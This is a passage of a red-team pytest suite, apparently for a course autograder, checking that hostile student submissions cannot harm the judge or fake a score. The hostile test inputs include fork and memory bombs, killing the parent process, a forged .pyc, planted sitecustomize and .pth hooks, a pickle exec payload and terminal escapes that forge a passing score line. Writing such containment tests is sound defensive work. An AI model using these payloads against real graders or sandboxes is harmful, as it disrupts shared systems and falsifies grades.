+            judge = int(next(line for line in f if line.startswith("PPid:")).split()[1])
+        if judge > 1:
+            os.kill(judge, 0)  # signal 0 delivers nothing: it only proves SIGKILL would work
+            print("RT-CAN-SIGNAL-JUDGE", judge)
+    except (OSError, StopIteration, ValueError) as e:
+        print("RT-CANNOT-SIGNAL", type(e).__name__)
+    ''')
+    graded = rt.grade(rt.folder(sec1(body)))
+    rt.verdict(graded, attacked=tasks_of(S1), not_in_feedback=(f"RT-CAN-SIGNAL-JUDGE {os.getpid()}",))
+
+
+def test_kills_the_zygote(rt):
+    """SIGKILL to the worker's parent (the zygote, unless a PID namespace hides it) once: later calls still graded"""
+    body = then_wrong('''\
+    import os, signal
+    if x.dim() == 3:
+        os.kill(os.getppid(), signal.SIGKILL)
+    ''')
+    rt.verdict(rt.grade(rt.folder(sec1(body))), attacked=tasks_of(S1))
+
+
+# ---------------------------------------------------------------- resource abuse
+# Each attack runs in linear_forward's one call with a 3-D x (the third of Task 1.1's four calls), early in
+# the run: every call after it, in sec1 and in the other files, shows whether it did lasting damage.
+
+
+def on_3d_call(body: str) -> dict[str, str]:
+    """A hostile sec1_linear.py: body runs on the call with a 3-D x; every call returns a wrong answer."""
+    return sec1("if x.dim() == 3:\n" + textwrap.indent(textwrap.dedent(body), "    ") + WRONG_LINEAR)
+
+
+RESOURCE_ATTACKS = {
+    "infinite_loop": "while True:\n    pass\n",
+    "sleep_forever": "import time\ntime.sleep(10**6)\n",
+    "sigstop_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
+    "tensor_memory_bomb": '''\
+        try:
+            torch.empty(10**11).fill_(1.0)  # 400 GB
+        except RuntimeError:
+            pass
+        big = torch.ones(6 << 28)  # 6 GiB of float32, every page written
+        return "SURVIVED-" + str(big.numel())
+        ''',
+    "list_memory_bomb": '''\
+        hoard = []
+        for _ in range(6 << 10):  # up to 6 GiB in written 1 MiB strings
+            hoard.append(b"\\x01" * (1 << 20))
+        return "SURVIVED-" + str(len(hoard))
+        ''',
+    "mmap_8_gib_touched": '''\
+        import mmap
+        area = mmap.mmap(-1, 8 << 30)  # anonymous and shared: RLIMIT_DATA does not count it
+        block = b"\\x01" * (1 << 20)
+        for offset in range(0, 8 << 30, 1 << 20):
+            area[offset:offset + (1 << 20)] = block
+        return "SURVIVED-mmap"
+        ''',
+    "fork_bomb_200": '''\
+        import os
+        for _ in range(200):  # bounded, so an unprotected machine survives it
+            try:
+                pid = os.fork()
+            except OSError:
+                break
+            if pid == 0:
+                try:
+                    os.execv("/bin/sleep", ["sleep-__MARK__", "600"])
+                finally:
+                    os._exit(0)
+        ''',
+    "stdout_100_mb": '''\
+        import sys
+        line = "x" * 1023 + "\\n"
+        for _ in range(100 << 10):
+            sys.stdout.write(line)
+        sys.stdout.flush()
+        ''',
+    "disk_flood_100_mb": '''\
+        block = b"\\0" * (1 << 20)
+        with open("flood.bin", "wb") as f:
+            for _ in range(100):
+                f.write(block)
+        return "SURVIVED-flood"
+        ''',
+    "deep_recursion": '''\
+        import sys
+        sys.setrecursionlimit(10**6)
+
+        def dive(n):
+            return dive(n + 1) + 1
+
+        try:
+            dive(0)
+        except RecursionError:
+            pass
+
+        def dive_through_c(n):  # each level passes through sorted(), in C: the C stack overflows
+            return sorted([n], key=lambda v: dive_through_c(v + 1))
+
+        dive_through_c(0)
+        ''',
+}
+
+
+@pytest.mark.parametrize("name", list(RESOURCE_ATTACKS))
+def test_resource_abuse(rt, name):
+    """loops, sleeps, stops, memory and fork bombs, floods, deep recursion: 0 for sec1, every later call unharmed"""
+    folder = rt.folder(on_3d_call(RESOURCE_ATTACKS[name]))
+    graded = rt.grade(folder, *SLOW)
+    rt.verdict(graded, attacked=tasks_of(S1), not_in_feedback=("SURVIVED",))
+    assert rt.report_path(folder).stat().st_size < 1 << 20, "the submission's output reached the report uncapped"
+
+
+def test_thread_outlives_the_call(rt):
+    """a non-daemon thread that keeps appending to a file (where the worker can write) for 10 s after returning"""
+    log = rt.scratch / "thread.log"
+    body = f'''\
+        import threading, time
+
+        def scribble():
+            end = time.time() + 10
+            while time.time() < end:
+                for path in ({str(log)!r}, "thread.log"):
+                    try:
+                        with open(path, "a") as f:
+                            f.write("still here\\n")
+                    except OSError:
+                        pass
+                time.sleep(0.05)
+
+        threading.Thread(target=scribble).start()
+        '''
+    graded = rt.grade(rt.folder(on_3d_call(body)), *SLOW)
+    time.sleep(0.3)
+    size = log.stat().st_size if log.exists() else 0
+    time.sleep(1.0)
+    assert (log.stat().st_size if log.exists() else 0) == size, "a thread of the submission still writes after grading"
+    rt.verdict(graded, attacked=tasks_of(S1))
+
+
+# ---------------------------------------------------------------- supply chain and deserialization
+
+
+def test_stale_pyc_of_the_reference(rt):
+    """__pycache__ holds the reference compiled with the stub's mtime and size: an import would run it"""
+    folder = rt.folder({S1: (EXERCISES / S1).read_text(encoding="utf-8")})
+    source = folder / S1
+    st = source.stat()
+    code = compile((SOLUTIONS / S1).read_bytes(), str(source), "exec")
+    pyc = Path(importlib.util.cache_from_source(str(source)))
+    pyc.parent.mkdir(exist_ok=True)
+    pyc.write_bytes(_code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size))
+    os.utime(source, (st.st_atime, st.st_mtime))
+    # the forgery is live: Python's own loader accepts the .pyc for the stub and finds the reference in it
+    loaded = SourceFileLoader("sec1_linear", str(source)).get_code("sec1_linear")
+    forward = next(c for c in loaded.co_consts if getattr(c, "co_name", "") == "linear_forward")
+    assert "NotImplementedError" not in forward.co_names
+    rt.verdict(rt.grade(folder), attacked=tasks_of(S1))
+
+
+SHADOW = '''\
+import pathlib
+
+pathlib.Path("__SIDE__", "{name}-imported").write_text("ran")
+'''
+
+
+def test_shadow_modules_planted(rt):
+    """torch.py, pytest.py, numpy.py and a course/ package in the submission folder: none may run"""
+    planted = {f"{name}.py": SHADOW.format(name=name) + "raise SystemExit(0)\n"
+               for name in ("torch", "pytest", "numpy")}
+    planted["course/__init__.py"] = SHADOW.format(name="course")
+    planted["course/probes.py"] = SHADOW.format(name="course-probes")
+    rt.verdict(rt.grade(rt.folder({S1: stub(S1)}, planted)), attacked=tasks_of(S1))
+
+
+def test_site_hooks_planted(rt):
+    """sitecustomize.py, usercustomize.py and x.pth in the submission folder: none may run"""
+    planted = {
+        "sitecustomize.py": SHADOW.format(name="sitecustomize"),
+        "usercustomize.py": SHADOW.format(name="usercustomize"),
+        "x.pth": 'import pathlib; pathlib.Path("__SIDE__", "pth-imported").write_text("ran")\n',
+    }
+    rt.verdict(rt.grade(rt.folder({S1: stub(S1)}, planted)), attacked=tasks_of(S1))
+
+
+def test_pickle_payload_in_the_result(rt):
+    """linear_forward returns pickle bytes whose __reduce__ would write a file when unpickled"""
+    body = '''\
+    import pickle
+
+    class Payload:
+        def __reduce__(self):
+            return (exec, ("open(r'__SIDE__/unpickled', 'w').write('ran')",))
+
+    return pickle.dumps(Payload())
+    '''
+    rt.verdict(rt.grade(rt.folder(sec1(body))), attacked=tasks_of(S1))
+
+
+def test_source_that_stalls_the_judges_static_scan(rt):
+    """nesting past the parser's limits, and a 60 000-part dotted name, for the judge's integrity scan"""
+    deep = ("\n_rt_attributes = x" + ".a" * 60_000 + "\n_rt_unary = " + "-" * 150_000 + "1\n"
+            + "_rt_parens = " + "(" * 199 + "1" + ")" * 199 + "\n")
+    files = {S1: stub(S1) + "\n\ndef _rt_unused(x):\n    return x\n" + deep}
+    folder = rt.folder(files)
+    started = time.monotonic()
+    graded = rt.grade(folder)
+    seconds = time.monotonic() - started
+    rt.verdict(graded, attacked=tasks_of(S1))
+    assert S1 in graded.grade.get("integrity", {S1: []})
+    assert seconds < 8, f"grading took {seconds:.0f} s (about 2 s without the hostile lines)"
+
+
+def test_terminal_escapes_in_printed_output(rt):
+    """printed output with ANSI/OSC escapes, a fake score line and carriage returns, shown back in feedback"""
+    body = then_wrong('''\
+    print("\\x1b[2J\\x1b[H\\x1b]52;c;ZWNobyBwd25lZA==\\x07total 41 / 41 (100.0%)\\r")
+    print("\\x1b[1A\\x1b[2K\\x1b]0;all tests passed\\x07")
+    ''')
+    graded = rt.grade(rt.folder(sec1(body)))
+    rt.verdict(graded, attacked=tasks_of(S1), not_in_feedback=("\x1b", "\x07", "\r"))
+    assert not any("\x1b" in line for line in graded.result.outlines), "escape sequences reached the terminal"
+
+
+def shared_places() -> list[Path]:
+    """Folders later calls, other students or the judge read: the course package, site-packages, temp folders."""
+    import course
+    import torch
+
+    return [Path(course.__file__).parent, Path(torch.__file__).parent.parent,
+            Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")]
+
+
+def test_plants_files_where_others_would_find_them(rt, request):
+    """a harmless .pth written into site-packages, the course package, /tmp, /var/tmp, /dev/shm and a shared $HOME"""
+    body = then_wrong('''\
+    import os, sys
+    targets = [os.path.dirname(os.path.dirname(torch.__file__)), "/tmp", "/var/tmp", "/dev/shm"]
+    if os.path.realpath(os.path.expanduser("~")) != os.path.realpath(os.getcwd()):  # its own folder is fine
+        targets.append(os.path.expanduser("~"))
+    course = sys.modules.get("course")
+    if course is not None and getattr(course, "__file__", None):
+        targets.append(os.path.dirname(course.__file__))
+    for folder in targets:
+        path = os.path.join(folder, "rt-__MARK__.pth")
+        try:
+            with open(path, "x") as f:
+                f.write("# red team: a file planted where others would find it (a comment: runs nothing)\\n")
+            print("RT-WROTE", path)
+        except OSError:
+            pass
+    ''')
+    name = f"rt-{rt.mark}.pth"
+
+    def planted() -> list[Path]:
+        return [p for p in [*(d / name for d in shared_places()), *Path("/tmp").glob(f"*/{name}")] if p.exists()]
+
+    request.addfinalizer(lambda: [p.unlink(missing_ok=True) for p in planted()])
+    graded = rt.grade(rt.folder(sec1(body)))
+    assert not planted(), f"the worker left files where others read: {planted()}"
+    rt.verdict(graded, attacked=tasks_of(S1), not_in_feedback=("RT-WROTE",))
